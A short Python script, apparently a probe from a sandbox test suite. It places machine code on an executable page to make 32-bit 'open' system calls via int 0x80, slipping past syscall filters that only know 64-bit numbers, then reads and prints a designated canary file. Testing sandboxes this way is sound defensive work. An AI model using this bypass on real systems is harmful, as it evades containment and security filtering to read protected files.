# canary: file
# needs: calls of 32-bit programs
# A system call of 32-bit programs, from a page of machine code: its numbers are others than those a filter may know.
import ctypes
import mmap
import os

MAP_32BIT = 0x40
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
page = libc.mmap(None, 4096, 7, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | MAP_32BIT, -1, 0)
path = canary["file"].encode() + b"\0"
ctypes.memmove(page + 2048, path, len(path))
code = (
    b"\x53"  # push rbx
    + b"\xb8\x05\x00\x00\x00"  # mov eax, 5: open
    + b"\xbb" + (page + 2048).to_bytes(4, "little")  # mov ebx, path
    + b"\x31\xc9\x31\xd2"  # xor ecx, ecx; xor edx, edx
    + b"\xcd\x80"  # int 0x80
    + b"\x5b\xc3"  # pop rbx; ret
)
ctypes.memmove(page, code, len(code))
descriptor = ctypes.CFUNCTYPE(ctypes.c_int)(page)()
print("CANARY:" + os.read(descriptor, 100).decode())
